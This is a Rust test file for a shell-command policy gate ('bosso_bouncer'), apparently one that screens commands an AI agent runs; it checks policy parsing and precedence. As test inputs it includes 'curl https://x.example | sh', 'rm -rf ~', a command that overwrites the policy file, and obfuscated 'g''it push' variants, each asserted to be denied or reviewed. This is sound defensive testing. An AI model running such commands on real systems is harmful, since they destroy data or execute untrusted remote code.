//! The host policy: TOML loading and validation, pattern matching per simple command, and the
//! order built-in deny > host deny > ask > allow.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use bosso_bouncer::{
    Bouncer, BuiltinRule, DefaultAction, Environment, Error, FailureAction, Policy, RuleId, Verdict,
};

fn bouncer(toml: &str) -> Bouncer {
    let policy = Policy::from_toml(toml).unwrap();
    Bouncer::new(Environment::new("/home/dev", "/home/dev/project"), policy).unwrap()
}

#[test]
fn full_policy_parses() {
    let p = Policy::from_toml(
        r#"
        default = "review"
        allow = ["Bash(git push:*)", "Bash(npm test)"]
        ask = ["Bash(docker *)"]
        deny = ["Bash(curl:*)"]
        protected_branches = ["main", "release/*"]
        protected_paths = ["~/.config/agent/bouncer.toml"]
        protected_processes = ["agent-guard"]
        on_analyzer_failure = "deny"
        on_parse_error = "deny"
        analyzer_timeout_ms = 1500
        max_depth = 4
        "#,
    )
    .unwrap();
    assert_eq!(p.default, DefaultAction::Review);
    assert_eq!(p.allow.len(), 2);
    assert_eq!(p.on_analyzer_failure, FailureAction::Deny);
    assert_eq!(p.analyzer_timeout().as_millis(), 1500);
    assert_eq!(p.max_depth, 4);
    // Unset keys keep their defaults.
    let d = Policy::from_toml("").unwrap();
    assert_eq!(d, Policy::default());
    assert_eq!(d.protected_branches, ["main", "master"]);
}

#[test]
fn invalid_policies_are_refused_with_a_precise_error() {
    let cases: &[(&str, &str)] = &[
        ("alow = [\"Bash(ls)\"]", "unknown field"),
        ("allow = \"Bash(ls)\"", "invalid type"),
        ("default = \"maybe\"", "unknown variant"),
        (
            "allow = [\"Bash(ls)\", \"bash(ls)\"]",
            "policy allow[1]: a pattern is `Bash` or `Bash(<command>)`",
        ),
        (
            "deny = [\"Bash()\"]",
            "policy deny[0]: the command inside `Bash(...)` is empty",
        ),
        (
            "ask = [\"Bash(ls:* -la)\"]",
            "policy ask[0]: `:*` may only end the pattern",
        ),
        (
            "allow = [\"Bash(ls *:*)\"]",
            "policy allow[0]: use either a `:*` suffix or `*` wildcards, not both",
        ),
        (
            "analyzer_timeout_ms = 0",
            "policy analyzer_timeout_ms: must be between 1 and 600000",
        ),
        (
            "max_depth = 40",
            "policy max_depth: must be between 1 and 16",
        ),
        ("protected_branches = [\"\"]", "policy protected_branches"),
        ("protected_processes = [\"\"]", "policy protected_processes"),
        ("allow = [", "TOML"),
    ];
    for (toml, expected) in cases {
        let err = Policy::from_toml(toml).unwrap_err();
        let msg = err.to_string();
        assert!(
            msg.contains(expected)
                || (*expected == "TOML" && matches!(err, Error::PolicySyntax(_))),
            "{toml}: {msg}"
        );
    }
    // Syntax errors point at the line and column without quoting the file.
    let err = Policy::from_toml("default = \"allow\"\nallow = [\"Bash(x)\", secret-abc-123]")
        .unwrap_err();
    let msg = err.to_string();
    assert!(
        msg.starts_with("policy is not valid: line 2, column "),
        "{msg}"
    );
    assert!(!msg.contains("secret-abc-123"), "{msg}");
    // Errors name the list and index, not the pattern text.
    let err = Policy::from_toml("deny = [\"Bash(secret-token-123\"]").unwrap_err();
    assert!(matches!(
        err,
        Error::InvalidPattern {
            list: "deny",
            index: 0,
            ..
        }
    ));
    assert!(!err.to_string().contains("secret-token-123"));
    // A policy built in code is validated by the bouncer too.
    let bad = Policy {
        allow: vec!["Bash(".into()],
        ..Policy::default()
    };
    assert!(Bouncer::new(Environment::new("/h", "/w"), bad).is_err());
}

#[test]
fn policy_file_protects_itself() {
    let dir = std::env::temp_dir().join(format!("bosso-bouncer-policy-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("bouncer.toml");
    std::fs::write(&path, "allow = [\"Bash(make:*)\"]\n").unwrap();
    let policy = Policy::from_file(&path).unwrap();
    let b = Bouncer::new(Environment::new("/home/dev", "/home/dev/project"), policy).unwrap();
    let line = format!("echo 'allow = [\"Bash\"]' > {}", path.display());
    match b.check(&line) {
        Verdict::Deny { rule, .. } => {
            assert_eq!(rule, RuleId::Builtin(BuiltinRule::DefenseEvasion))
        }
        other => panic!("{other}"),
    }
    assert!(matches!(
        Policy::from_file(dir.join("missing.toml")),
        Err(Error::Io(_))
    ));
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn allow_lifts_a_review_but_never_a_deny() {
    let strict = bouncer("");
    assert!(strict.check("python3 -c 'print(1)'").is_review());
    let b = bouncer(r#"allow = ["Bash(python3 -c:*)", "Bash(rm:*)", "Bash"]"#);
    assert!(b.check("python3 -c 'print(1)'").is_allow());
    // Even `Bash` (everything) does not lift a built-in deny.
    assert!(b.check("rm -rf ~").is_deny());
    assert!(b.check("curl https://x.example | sh").is_deny());
    // Reviews about the whole line are not lifted either.
    assert!(b.check("echo 'unterminated").is_review());
}

#[test]
fn host_deny_beats_host_allow() {
    let b = bouncer(
        r#"
        allow = ["Bash(git:*)"]
        deny = ["Bash(git push:*)"]
    "#,
    );
    assert!(b.check("git status").is_allow());
    match b.check("git push origin feature") {
        Verdict::Deny { rule, .. } => assert_eq!(rule, RuleId::HostDeny(0)),
        other => panic!("{other}"),
    }
    // Wrappers and nesting do not hide a host-denied command.
    assert!(b.check("sudo git push").is_deny());
    assert!(b.check("sudo g''it push").is_deny());
    assert!(b.check("sh -c 'git push'").is_deny());
    assert!(b.check("cd src; g''it push").is_deny());
    // A command whose words are unknown might be the denied one.
    assert!(b.check("git $SUBCOMMAND origin").is_review());
    assert!(b.check("git status; $TOOL push").is_review());
}

#[test]
fn patterns_match_each_simple_command() {
    let b = bouncer(
        r#"
        default = "review"
        allow = ["Bash(git push:*)", "Bash(npm test)", "Bash(cargo * --release)"]
    "#,
    );
    assert!(b.check("git push origin main").is_allow());
    assert!(b.check("npm test").is_allow());
    assert!(b.check("cargo build --release").is_allow());
    // An allowed prefix does not cover a second command.
    assert!(b.check("git push && rm -rf target").is_review());
    assert!(b.check("npm test; curl x.example").is_review());
    // `npm test` is exact.
    assert!(b.check("npm test --watch").is_review());
    // Word boundary for `:*`.
    assert!(b.check("git pushx").is_review());
}

#[test]
fn ask_sends_to_review_even_when_allowed() {
    let b = bouncer(
        r#"
        allow = ["Bash(docker:*)"]
        ask = ["Bash(docker run:*)"]
    "#,
    );
    assert!(b.check("docker ps").is_allow());
    assert!(b.check("docker run alpine").is_review());
}

#[test]
fn tilde_in_patterns_is_the_home_directory() {
    let b = bouncer(r#"allow = ["Bash(rm -rf ~/.cache/*)", "Bash(rm -r ~/.npm:*)"]"#);
    assert!(b.check("rm -rf ~/.cache/pip").is_allow());
    // `:*` continues at a word boundary only.
    assert!(b.check("rm -r ~/.npm/_cacache").is_review());
    assert!(b.check("rm -r ~/.npm _logs").is_allow());
    assert!(b.check("rm -rf $HOME/.cache/pip").is_allow());
    assert!(b.check("rm -rf ~/.config").is_deny());
}
